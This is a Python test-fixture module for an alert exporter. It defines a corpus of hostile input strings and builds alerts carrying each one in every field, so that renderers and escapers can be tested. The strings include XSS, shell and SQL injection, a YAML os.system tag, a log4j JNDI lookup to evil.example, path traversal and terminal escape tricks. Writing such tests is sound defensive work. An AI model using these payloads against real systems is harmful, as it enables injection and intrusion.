"""The one corpus of hostile values and alerts, for every renderer, sink and escaper.

``hostile_values()`` are what an attacker can put into a field;
``hostile_alerts()`` are whole alerts with each value in every place at once.
"""

from __future__ import annotations

from collections.abc import Mapping

from exporter.alert import Alert, Priority

MEGABYTE = 1_000_000
REFERENCE_TIME_NS = 1_728_152_979_273_467_556

_VALUES: Mapping[str, str] = {
    "script": "<script>alert(document.cookie)</script>",
    "image with handler": '"><img src=x onerror=alert(1)>',
    "attribute break-out": "' onmouseover='alert(1)' x=\"y\" `z`",
    "html comment": "<!-- --><b>bold</b><!--",
    "html entity": "&lt;b&gt; &#60; &amp;amp; &notanentity;",
    "closing tags": "</code></pre></article></body></html>",
    "cdata": "<![CDATA[x]]><?php echo 1 ?><!DOCTYPE x>",
    "ansi colour": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "ansi title": "\x1b]0;owned\x07",
    "osc 8 link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc 52 clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "c1 controls": "\x9b31m\x9d0;x\x9c\x85\x90q\x9c",
    "backspace and delete": "safe\x08\x08\x08\x08evil\x7f\x7f",
    "carriage return": "harmless\rrm -rf /",
    "backticks": "`id`",
    "long backticks": "``` ` `` ```` x",
    "only backticks": "``",
    "substitution": "$(touch owned)${IFS}$IFS$HOME",
    "arithmetic": "a[$(touch owned)]",
    "separator": ";rm -rf / ; && || | & >owned <x",
    "single quotes": "'; touch owned; '",
    "double quotes": '"; touch owned; "',
    "both quotes": "'\"'\"';touch owned;'\"'\"'",
    "ansi-c break-out": "\\'; touch owned; #\n",
    "quote after control": "\x01'; touch owned; #",
    "backslashes": "\\\\\\",
    "one backslash": "\\",
    "history": "!! !$ !rm ^old^new",
    "history after control": "\t!! !$",
    "glob": "* ? [a-z] {a,b} ~ ~root",
    "tilde": "~root/.ssh",
    "equals": "=ls",
    "assignment": "LD_PRELOAD=/tmp/evil.so",
    "line feeds": "one\ntwo\n\nthree\n# heading\n- item\n    code\n",
    "crlf": "one\r\ntwo\r\nX-Injected: yes\r\n\r\nbody",
    "nul": "before\x00after",
    "tabs": "a\tb\t",
    "vertical": "a\vb\fc\x1cd\x1de\x1ef",
    "unicode line ends": "a\u2028b\u2029c\u0085d",
    "lone surrogate": "a\ud800b\udc80c\udfff",
    "replacement": "bad \ufffd\ufffd utf-8",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "arabic and hebrew": "ملف/etc/passwd קובץ",
    "zero width": "pay\u200bpal\u200c.\u200d\u2060\ufeffcom\u00ad",
    "invisible letters": "a\u115f\u1160\u3164\uffa0\u2800\u034fb",
    "variation selectors": "a\ufe0f\ufe00\U000e0100b",
    "tag characters": "\U000e0001\U000e0068\U000e0069",
    "odd spaces": "a\u00a0b\u2003c\u3000d\u202fe",
    "combining first": "\u0338\u0301x",
    "zalgo": "z" + "\u0301\u0316\u0360\u034e" * 12,
    "private and unassigned": "\ue000\U000f0000\U0010ffff\u0378",
    "fullwidth": "ＡＢＣ　＜ｓｃｒｉｐｔ＞",
    "emoji": "🔥👩\u200d💻🏳️\u200d🌈",
    "homoglyphs": "gооgle раypal",
    "markdown link": "[click](https://evil.example/) ![x](https://evil.example/t.png)",
    "markdown reference": "[a]: https://evil.example/\n[a][a]",
    "markdown autolink": "<https://evil.example/> https://evil.example www.evil.example a@evil.example",
    "markdown emphasis": "**bold** __bold__ _i_ *i* ~~s~~ ==m==",
    "markdown heading": "# heading\n=====\n-----",
    "markdown fence": "```\n</code>\n```\n~~~\n",
    "markdown table": "a | b | c\n---|---|---\n| x \\| y",
    "markdown list": "1. one\n- two\n+ three\n* four",
    "markdown quote": "> quote",
    "markdown html": "<details open><summary>x</summary></details>",
    "mention": "@security-team #1 GH-1 org/repo#2 :smile: $x^2$",
    "yaml anchor": "&a [*a, *a, *b]",
    "yaml tag": "!!python/object/apply:os.system ['touch owned']",
    "yaml break-out": "x\n- rule: owned\n  condition: evt.num > 0 # ",
    "yaml plain": "a: b #c, [d], {e: f}",
    "yaml document": "---\n...\n%YAML 1.2\n",
    "yaml words": "no",
    "json break-out": '","admin":true,"x":"',
    "falco break-out": '" or evt.num>=0 or proc.name = "',
    "falco placeholder": "%proc.name %evt.arg[0] *%container.id",
    "placeholder": "%{proc.name}%{fd.name|user.name}",
    "language placeholder": "%[sh:touch owned]%[gcl:%{proc.name}]",
    "optional brackets": "[[ hidden %{nothing}]] ]] [[",
    "jinja": "{{ 7*7 }}{% for x in y %}{{ config }}{# c #}",
    "go template": "{{ .Values }}{{ printf `x` }}",
    "python format": "{0.__class__} %s %(x)s %n {value!r}",
    "jq interpolation": "\\(env) \\u0022",
    "gcl break-out": '" OR severity>="DEFAULT',
    "sql": "' OR 1=1; DROP TABLE x; --",
    "log4j": "${jndi:ldap://evil.example/a}",
    "label break-out": 'x"} 1\nowned{a="b\\',
    "regex": "a.*+?(b|c)[d]{2}^$\\w/",
    "path": "../../../../etc/passwd",
    "url": "javascript:alert(1)//https://x?a=b&c=d#e",
    "leading dash": "-rf",
    "long option": "--output=/etc/cron.d/owned",
    "leading hash": "# not a comment",
    "spaces around": "  padded  ",
    "one space": " ",
    "long word": "w" * 5000,
    "long line": "word " * 1000,
    "looks absent": "<na>",
    "number": "007",
}


def hostile_values() -> dict[str, str]:
    """Return hostile values by what they try, each short enough for any test."""
    return dict(_VALUES)


def huge_values() -> dict[str, str]:
    """Return values of a megabyte."""
    return {
        "huge word": "A" * MEGABYTE,
        "huge escapes": "\x1b" * MEGABYTE,
        "huge backticks": "`" * MEGABYTE,
        "huge angle brackets": "<" * MEGABYTE,
    }


FIELDS = (
    "proc.name",
    "proc.cmdline",
    "proc.exepath",
    "proc.pname",
    "fd.name",
    "user.name",
    "user.uid",
    "user.loginuid",
    "container.id",
    "container.name",
    "container.image.repository",
    "k8s.ns.name",
    "k8s.pod.name",
    "evt.type",
)
"""Fields that ``hostile_alert`` fills."""


def hostile_alert(value: str, *, rule: str = "Clear Log Activities") -> Alert:
    """Return an alert that has the value in every field, as a field's name, as host, as tag and in its output."""
    return Alert(
        time_ns=REFERENCE_TIME_NS,
        rule=rule,
        priority=Priority.WARNING,
        source="syscall",
        hostname=value,
        raw_output=f"18:29:39.273467556: Warning Log files were tampered | file={value} process={value}",
        fields={**dict.fromkeys(FIELDS, value), value: value},
        tags=("T1070", value),
    )


def hostile_alerts() -> list[Alert]:
    """Return an alert for each hostile value, and one for each whose rule and source are hostile as well."""
    alerts = [hostile_alert(value) for value in _VALUES.values()]
    for value in _VALUES.values():
        alert = hostile_alert(value, rule=value)
        alerts.append(
            Alert(
                time_ns=alert.time_ns,
                rule=value,
                priority=Priority.UNKNOWN,
                source=value,
                hostname=value,
                raw_output=value,
                fields=alert.fields,
                tags=(value, value),
            )
        )
    return alerts
